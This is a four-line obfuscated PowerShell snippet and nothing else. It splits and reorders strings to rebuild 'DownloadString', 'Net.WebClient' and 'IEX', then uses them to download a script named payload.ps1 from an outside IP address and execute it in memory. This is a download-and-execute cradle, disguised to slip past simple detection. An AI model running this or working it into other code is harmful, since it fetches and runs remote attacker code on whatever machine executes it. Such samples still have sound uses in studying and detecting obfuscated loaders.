$x = ("{2}{0}{1}" -f 'ownloadStr','ing','D');
$cl = ('Net.Web' + 'Client');
$p = 'http://203.0.113.45/payXXload.ps1' -replace 'XX','';
& ("{1}{0}" -f 'EX','I') ((New-Object $cl).$x($p))
